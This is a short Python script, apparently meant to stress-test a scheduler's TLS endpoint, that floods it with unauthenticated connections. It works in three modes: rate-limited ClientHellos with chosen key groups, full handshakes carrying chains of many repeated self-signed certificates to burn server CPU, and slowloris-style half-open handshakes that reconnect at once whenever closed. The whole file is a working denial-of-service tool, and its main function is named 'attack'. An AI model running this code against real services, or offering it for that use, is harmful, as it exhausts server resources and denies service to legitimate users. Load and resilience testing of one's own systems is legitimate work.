"""Connects to a scheduler without a valid key, as often as told, until it is killed:

strangers.py KIND CONNECTION_FILE TIMES_A_SECOND

KIND is the group of the key in a TLS hello (x25519, prime256v1, secp384r1), or chains-of-COUNT:
complete handshakes with this many certificates.

strangers.py half-open HOST:PORT COUNT keeps so many handshakes half open, again and again."""
import collections
import json
import pathlib
import select
import socket
import ssl
import subprocess
import sys
import tempfile
import time

OPEN_MAX = 256  # Connections that are kept open for the scheduler's answers.
# To decode a certificate costs about the same whatever its key, so the smallest are the worst. 34
# of these are 8 KiB.
SMALL_CONFIG = "[req]\ndistinguished_name = none\n[none]\n"


def hello_with(group):
    """The first message of a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    if group != "x25519":  # The default.
        context.set_ecdh_curve(group)
    output = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), output)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return output.read()


def chain_context(count):
    """A client with many certificates of itself."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with tempfile.TemporaryDirectory() as folder:
        key, one, chain, config = (pathlib.Path(folder, name)
                                   for name in ("key", "one", "chain", "config"))
        config.write_text(SMALL_CONFIG)
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:prime256v1", "-nodes", "-config", config, "-subj", "/",
                        "-set_serial", "1", "-keyout", key, "-out", one],
                       check=True, stderr=subprocess.DEVNULL)
        chain.write_text(one.read_text() * count)
        context.load_cert_chain(chain, key)
    return context


def address_in(connection_file):
    address = json.loads(pathlib.Path(connection_file).read_text())["addresses"][0]
    host, port = address.removeprefix("tcp://").rsplit(":", 1)
    return host, int(port)


def attack(kind, address, times_a_second):
    if kind.startswith("chains-of-"):
        context = chain_context(int(kind.rsplit("-", 1)[1]))

        def greet(peer):
            try:
                peer.settimeout(2)
                context.wrap_socket(peer).recv(1)
            except OSError:
                pass
    else:
        hello = hello_with(kind)

        def greet(peer):
            peer.sendall(hello)

    peers, due = collections.deque(), time.perf_counter()
    while True:
        try:
            peer = socket.create_connection(address, timeout=5)
            greet(peer)
            peers.append(peer)
        except OSError:  # The scheduler's queue is full.
            pass
        if len(peers) > OPEN_MAX:
            peers.popleft().close()
        due = max(due + 1 / times_a_second, time.perf_counter() - 0.1)
        time.sleep(max(0, due - time.perf_counter()))


def stay_half_open(address, count):
    """A peer that the server closes connects again at once."""
    hello = hello_with("x25519")
    half = hello + hello[:len(hello) // 2]
    peers, poller = {}, select.epoll()
    while True:
        while len(peers) < count:
            peer = socket.socket()
            peer.setblocking(False)
            peer.connect_ex(address)
            peers[peer.fileno()] = peer
            poller.register(peer, select.EPOLLIN | select.EPOLLOUT)
        for number, events in poller.poll():
            peer = peers[number]
            try:
                if events & select.EPOLLOUT:
                    peer.send(half)
                    poller.modify(peer, select.EPOLLIN)
                elif not peer.recv(65536):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                poller.unregister(peer)
                peers.pop(number).close()


if __name__ == "__main__":
    if sys.argv[1] == "half-open":
        host, port = sys.argv[2].rsplit(":", 1)
        stay_half_open((host, int(port)), int(sys.argv[3]))
    attack(sys.argv[1], address_in(sys.argv[2]), float(sys.argv[3]))
